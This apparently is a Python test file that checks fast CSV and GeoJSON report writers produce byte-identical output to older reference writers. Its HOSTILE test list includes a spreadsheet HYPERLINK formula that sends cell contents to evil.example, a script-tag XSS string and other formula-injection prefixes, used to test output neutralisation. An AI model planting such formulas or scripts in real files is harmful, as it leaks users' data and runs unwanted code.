"""The one-pass CSV and GeoJSON writers give the bytes of the cell-by-cell writers they replace.

The references below are the writers as they were (every value through ``csv_text`` /
``rounded``, every geometry through ``shapely.geometry.mapping`` and ``json.dumps``); the
fast ones must match them byte for byte on the demo cities, on hostile names and on
generated tables and shapes.
"""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING, Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st

from circle._io import _geometry_json, geojson_bytes, python_rounded
from circle.i18n import OSM_CREDIT
from circle.report.tables import (
    FACILITY_FORMATS,
    MINUTES,
    PEOPLE,
    SHARE,
    SUMMARY_FORMATS,
    Format,
    ReportTables,
    csv_bytes,
    csv_text,
    fixed_texts,
    geojson_table_bytes,
    neutralised,
    rounded,
)

if TYPE_CHECKING:
    from collections.abc import Mapping


def reference_csv(table: pd.DataFrame, formats: Mapping[str, Format]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    columns = [str(c) for c in table.columns]
    writer.writerow([neutralised(c) for c in columns])
    cells = [[csv_text(v, formats.get(c)) for v in table[c].tolist()] for c in columns]
    writer.writerows(zip(*cells, strict=True))
    return buffer.getvalue().encode("utf-8")


def reference_geojson(
    properties: list[dict[str, Any]], geometries: Any, *, decimals: int, members: dict[str, str]
) -> bytes:
    oriented = shapely.orient_polygons(np.asarray(geometries, dtype=object), exterior_cw=False)
    lines = [
        json.dumps(
            {
                "type": "Feature",
                "properties": dict(props),
                "geometry": _geometry_json(geometry, decimals),
            },
            ensure_ascii=False,
            allow_nan=False,
        )
        for props, geometry in zip(properties, oriented, strict=True)
    ]
    head = json.dumps({"type": "FeatureCollection", **members}, ensure_ascii=False)
    text = head[:-1] + ', "features": [\n' + ",\n".join(lines) + "\n]}\n"
    return text.encode("utf-8")


def reference_properties(table: pd.DataFrame, formats: Mapping[str, Format]) -> list[dict]:
    columns = [str(c) for c in table.columns if c != "geometry"]
    return [
        {c: rounded(table[c].tolist()[i], formats.get(c)) for c in columns}
        for i in range(len(table))
    ]


@pytest.fixture(scope="module", params=["helsinki", "chengdu"])
def demo_tables(request) -> ReportTables:
    from circle import Study
    from circle.datasets import demo_facilities, demo_pbf

    study = Study.load(demo_pbf(request.param), demo_facilities(request.param))
    lang = "zh" if request.param == "chengdu" else "en"
    return ReportTables.from_result(study.coverage(), lang)


def test_demo_report_files_match_the_cell_by_cell_writers(demo_tables):
    t = demo_tables
    areas = t.neighbourhoods.drop(columns="geometry")
    assert len(areas) > 10
    for table, formats in (
        (t.summary, SUMMARY_FORMATS),
        (areas, t.neighbourhood_formats),
        (t.facilities, FACILITY_FORMATS),
    ):
        assert csv_bytes(table, formats) == reference_csv(table, formats)
    expected = reference_geojson(
        reference_properties(t.neighbourhoods, t.neighbourhood_formats),
        t.neighbourhoods.geometry.to_numpy(),
        decimals=6,
        members={"attribution": OSM_CREDIT},
    )
    assert geojson_table_bytes(t.neighbourhoods, t.neighbourhood_formats) == expected


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "<script>alert(1)</script>|`x`",
    "-neg",
    "@SUM(1)",
    "\tTabbed",
    '"quoted", comma\nnew line',
    "社区卫生服务站",
    "",
]


def test_hostile_table_matches_the_cell_by_cell_writer():
    n = len(HOSTILE)
    table = pd.DataFrame(
        {
            "=id": HOSTILE,
            "name": [*HOSTILE[1:], None],
            "population": np.arange(n) * 1.25 - 3,
            "share": [0.1234567, -0.0, np.nan, np.inf, -np.inf, 1e-9, -1e-9, 0.5],
            "count": np.arange(n, dtype=np.int64) - 4,
            "flag": [True, False] * (n // 2),
            "mixed": [1, "a", None, 2.5, np.nan, True, "-1", pd.NA],
            "nullable": pd.array([1, None, 3, 4, 5, 6, 7, 8], dtype="Int64"),
        }
    )
    formats = {"population": PEOPLE, "share": SHARE, "count": MINUTES, "nullable": PEOPLE}
    assert csv_bytes(table, formats) == reference_csv(table, formats)
    frame = gpd.GeoDataFrame(
        table, geometry=[shapely.box(i, 0, i + 1, 1) for i in range(n)], crs="EPSG:4326"
    )
    expected = reference_geojson(
        reference_properties(frame, formats),
        frame.geometry.to_numpy(),
        decimals=6,
        members={"attribution": OSM_CREDIT, "coordinate_system": "GCJ-02"},
    )
    properties = json.loads(expected)["features"][0]["properties"]
    assert properties["=id"] == HOSTILE[0]  # GeoJSON keeps text as it is
    assert geojson_table_bytes(frame, formats, coordinate_system="GCJ-02") == expected


coordinate = st.one_of(
    st.floats(-180, 180, allow_nan=False),
    st.sampled_from([0.0, -0.0, -1e-9, 1e-9, 0.0000005, -0.0000005, 12.3456785, 179.9999996]),
)


@st.composite
def shapes(draw) -> shapely.Geometry | None:
    kind = draw(st.sampled_from(["polygon", "holed", "multi", "point", "line", "none", "empty"]))
    if kind == "none":
        return None
    if kind == "empty":
        return shapely.Polygon()
    x, y = draw(coordinate), draw(coordinate)
    size = draw(st.floats(1e-7, 5))
    if kind == "point":
        return shapely.Point(x, y)
    if kind == "line":
        return shapely.LineString([(x, y), (x + size, y - size)])
    box = shapely.box(x, y, x + size, y + size, ccw=draw(st.booleans()))
    if kind == "holed":
        return box.difference(shapely.box(x + size / 4, y + size / 4, x + size / 2, y + size / 2))
    if kind == "multi":
        return shapely.MultiPolygon([box, shapely.box(x + 2 * size, y, x + 3 * size, y + size)])
    return box


@settings(max_examples=200, deadline=None)
@given(geometries=st.lists(shapes(), max_size=12), decimals=st.sampled_from([0, 3, 6]))
def test_geojson_bytes_match_json_dumps_of_every_feature(geometries, decimals):
    properties = [{"i": i, "name": HOSTILE[i % len(HOSTILE)]} for i in range(len(geometries))]
    array = np.asarray([*geometries, None], dtype=object)[:-1]  # 1-D even when empty
    members = {"attribution": "© OSM", "coordinate_system": "GCJ-02"}
    got = geojson_bytes(properties, array, coordinate_decimals=decimals, members=members)
    assert got == reference_geojson(properties, array, decimals=decimals, members=members)


def test_geojson_with_a_3d_or_nan_shape_falls_back_to_the_same_bytes():
    geometries = np.asarray(
        [
            shapely.Polygon([(0, 0, 1), (1, 0, 2), (1, 1, 3)]),
            shapely.box(0, 0, 1, 1),
            shapely.GeometryCollection([shapely.Point(1, 2), shapely.box(0, 0, 1, 1)]),
        ],
        dtype=object,
    )
    properties = [{}, {}, {}]
    got = geojson_bytes(properties, geometries, coordinate_decimals=6)
    assert got == reference_geojson(properties, geometries, decimals=6, members={})
    with np.errstate(invalid="ignore"):  # shapely warns of the NaN
        nan = shapely.Polygon([(0, 0), (np.nan, 0), (1, 1)])
    bad = np.asarray([shapely.box(0, 0, 1, 1), nan])
    with pytest.raises(ValueError, match="JSON compliant"), np.errstate(invalid="ignore"):
        geojson_bytes([{}, {}], bad, coordinate_decimals=6)


def _bits(values: list[float]) -> list[int]:
    return np.asarray(values, dtype=float).view(np.int64).tolist()


@pytest.mark.parametrize("decimals", [0, 1, 2, 4, 6])
def test_python_rounded_is_pythons_round_bit_for_bit(decimals):
    rng = np.random.default_rng(7)
    scale = 10.0**decimals
    halves = (np.arange(-500, 500) + 0.5) / scale  # decimal halves, as the nearest floats
    values = np.concatenate(
        [
            rng.uniform(-200, 200, 20_000),
            rng.uniform(-1e-3, 1e-3, 2_000),
            10.0 ** rng.uniform(-12, 20, 2_000),
            halves,
            np.nextafter(halves, np.inf),
            np.nextafter(halves, -np.inf),
            [0.0, -0.0, 2.675, 0.125, 0.375, -2.5, 1e15 + 0.3, 2.0**52 + 1, 1.7e308],
            [np.nan, np.inf, -np.inf],
        ]
    )
    got = python_rounded(values, decimals)
    expected = [round(v, decimals) for v in values.tolist()]
    finite = np.isfinite(values)
    assert _bits(got[finite].tolist()) == _bits(np.asarray(expected)[finite].tolist())
    assert np.isnan(got[np.isnan(values)]).all()
    assert (got[np.isinf(values)] == values[np.isinf(values)]).all()


@pytest.mark.parametrize("decimals", [1, 2, 4, 6])
def test_fixed_texts_format_like_python(decimals):
    rng = np.random.default_rng(11)
    halves = (np.arange(-300, 300) + 0.5) / 10.0**decimals
    numbers = np.concatenate(
        [
            rng.uniform(-100, 100, 5_000),
            np.round(rng.uniform(0, 30, 5_000), 3),  # many repeats after rounding
            halves,
            np.nextafter(halves, np.inf),
            [0.0, -0.0, -1e-9, 1e-9, 2.675, 1e15 + 0.3, -3e17, 1.7e308],
            [np.nan, np.inf, -np.inf],
        ]
    )
    expected = [f"{x:.{decimals}f}" if np.isfinite(x) else "" for x in numbers.tolist()]
    assert fixed_texts(numbers, decimals) == expected
